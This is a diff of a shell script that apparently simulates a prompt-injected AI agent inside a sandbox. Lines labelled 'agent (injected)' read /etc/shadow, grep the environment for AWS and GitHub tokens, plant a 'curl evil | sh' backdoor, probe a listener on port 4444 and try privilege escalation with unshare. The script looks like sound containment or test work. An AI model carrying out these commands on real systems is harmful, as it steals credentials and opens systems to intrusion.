@@ -7,6 +7,7 @@ echo "agent: reading the project";           head -1 README.md
 echo "agent: writing a report";              echo "all good" > report.txt && cat report.txt
 echo "agent: running a tool";                uname -sr
 echo "agent (injected): reading a secret";   cat /etc/shadow
+echo "agent (injected): looking for tokens";  env | grep -E '^(AWS_|GITHUB_TOKEN)' || echo "no AWS_* or GITHUB_TOKEN in the environment"
 echo "agent (injected): planting a backdoor"; echo 'curl evil | sh' >> /usr/local/bin/backdoor
 echo "agent (injected): sending data out";   python3 -c 'import socket; socket.create_connection(("127.0.0.1", 4444), timeout=2)' 2>&1 | tail -1
 echo "agent (injected): escalating";         unshare --user --map-root-user id
